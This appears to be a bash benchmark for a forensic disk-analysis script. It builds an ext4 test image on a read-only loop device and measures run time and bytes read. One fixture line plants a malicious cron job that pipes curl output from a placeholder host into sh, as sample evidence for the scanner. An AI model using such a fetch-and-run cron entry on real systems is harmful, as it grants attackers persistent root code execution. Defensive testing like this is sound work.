#!/usr/bin/env bash
# analysis-bench.sh: test bench only (root). analyse-volume.sh on a 2 GiB
# ext4 image served by a read-only loop device: wall time, and the bytes the
# device served (the loop device's own read counter, /sys/block/loopN/stat),
# as a ratio to its size. With --compare REV, the same for the script as it
# was at git revision REV.
#
# Usage: analysis-bench.sh [--size-mib N] [--compare REV]
set -euo pipefail
root=$(cd "$(dirname "${BASH_SOURCE[0]}")/../.." && pwd)
size_mib=2048 compare=""
while (($#)); do
  case "$1" in
    --size-mib) size_mib=$2; shift 2 ;;
    --compare) compare=$2; shift 2 ;;
    *) echo "usage: analysis-bench.sh [--size-mib N] [--compare REV]" >&2; exit 2 ;;
  esac
done
[[ "$size_mib" =~ ^[0-9]+$ ]] || { echo "--size-mib is a number" >&2; exit 2; }
((EUID == 0)) || { echo "analysis-bench.sh: root only (losetup)" >&2; exit 2; }
work=$(mktemp -d "${TMPDIR:-/tmp}/ec2-forensics-analysis-bench.XXXXXX")
loop=""
cleanup() {
  if [[ -n "$loop" ]]; then
    blockdev --setrw "$loop" 2>/dev/null || true
    losetup -d "$loop" 2>/dev/null || true
  fi
  rm -rf "$work"
}
trap cleanup EXIT

# A volume with a system's worth of small files and some large data.
tree="$work/tree"
mkdir -p "$tree/etc/cron.d" "$tree/usr/bin" "$tree/var/log" "$tree/home/user/.ssh" "$tree/data"
echo 'root:x:0:0:root:/root:/bin/bash' >"$tree/etc/passwd"
echo '* * * * * root curl -s http://x.example/a | sh' >"$tree/etc/cron.d/job"
echo 'ssh-ed25519 AAAA bench' >"$tree/home/user/.ssh/authorized_keys"
for i in $(seq 1 2000); do echo "file $i" >"$tree/usr/bin/tool$i"; done
head -c $((size_mib / 8))M /dev/urandom >"$tree/data/blob1"
head -c $((size_mib / 8))M /dev/urandom >"$tree/data/blob2"
image="$work/volume.img"
mkfs.ext4 -q -F -d "$tree" "$image" "${size_mib}M" >/dev/null
rm -rf "$tree"
bytes=$(stat -c %s "$image")

run() { # label script
  local label=$1 script=$2 before after start end read_bytes
  loop=$(losetup --find --show --read-only "$image")
  blockdev --flushbufs "$loop"
  before=$(awk '{ print $3 }' "/sys/block/${loop##*/}/stat")
  start=$(date +%s.%N)
  bash "$script" --device "$loop" --volume-id vol-0abcdef0123456789 --out "$work/out-$label" \
    --rules "$root/infra/host/rules/crypto-mining.yar" >"$work/$label.log" 2>&1 \
    || { echo "$label: analyse-volume.sh failed:" >&2; tail -n 5 "$work/$label.log" >&2; exit 1; }
  end=$(date +%s.%N)
  after=$(awk '{ print $3 }' "/sys/block/${loop##*/}/stat")
  # analyse-volume.sh left the device read-only, as on a workstation; the
  # flag would outlive the loop device's detach and refuse its next user.
  blockdev --setrw "$loop"
  losetup -d "$loop"
  loop=""
  read_bytes=$(((after - before) * 512))
  awk -v label="$label" -v s="$start" -v e="$end" -v r="$read_bytes" -v b="$bytes" \
    'BEGIN { printf "| %-10s | %8.1f | %10.1f | %6.3f |\n", label, e - s, r / 1048576, r / b }'
}

echo "analyse-volume.sh on a ${size_mib} MiB ext4 image over a read-only loop device ($(nproc) vCPU)"
echo "| script     | wall (s) | read (MiB) | ratio  |"
echo "|------------|----------|------------|--------|"
run current "$root/infra/host/analyse-volume.sh"
if [[ -n "$compare" ]]; then
  git -C "$root" show "$compare:infra/host/analyse-volume.sh" >"$work/previous.sh"
  run "$compare" "$work/previous.sh"
fi
